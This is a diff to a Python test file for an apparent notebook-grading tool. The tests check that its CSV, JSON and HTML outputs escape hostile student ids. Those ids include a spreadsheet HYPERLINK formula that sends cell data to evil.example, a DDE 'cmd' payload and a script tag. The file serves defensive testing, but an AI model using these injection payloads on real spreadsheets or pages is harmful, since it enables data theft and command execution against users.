@@ -219,7 +219,7 @@ def batch_stoppers(subs: Path, victim: Path) -> dict[str, tuple[str, Path]]:
 def injections(subs: Path) -> dict[str, tuple[str, Path]]:
     """Spreadsheet formulas and markup in ids, file names and statuses."""
     out = {}
-    for n, sid in enumerate(['=HYPERLINK("http:evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+    for sid in (['=HYPERLINK("http:evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                              "\tTAB", "\rCR", "<script>alert(1)</script>"]):
         nb = notebook(sid, WRONG)
         stray = json.loads(json.dumps(nb["cells"][1]["outputs"][0]))
@@ -308,7 +308,6 @@ def test_outputs_are_written_whatever_the_text(battle, tmp_path):
     book = battle["book"]
     written = book.write(tmp_path / "gradebook.csv", report=tmp_path / "report.html")
     data = json.loads(written[1].read_text(encoding="utf-8"))
-    ids = {s["student"] for s in data["students"]}
     assert any("\\ud800evil" in s["status"] for s in data["students"])  # the notebook's id, escaped, shown only
     assert any("\\udce9tudiant-\\udcff" in s["source"] for s in data["students"])
     assert any(s["student"] == '=HYPERLINK("http:evil.example?"&A1,"open")' for s in data["students"])  # JSON: raw
@@ -316,7 +315,7 @@ def test_outputs_are_written_whatever_the_text(battle, tmp_path):
     cells = [cell for row in rows for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert "'=HYPERLINK(\"http:evil.example?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
-    assert "'-2+3" in cells and "'\tTAB" in cells
+    assert "'-2+3" in cells and "?TAB" in cells  # a tab in an id is shown as ?
     assert any(c.startswith("'=cmd.ipynb: invalid notebook") for c in cells)
     html = written[2].read_text(encoding="utf-8")
     assert "<script>" not in html and "&lt;script&gt;" in html
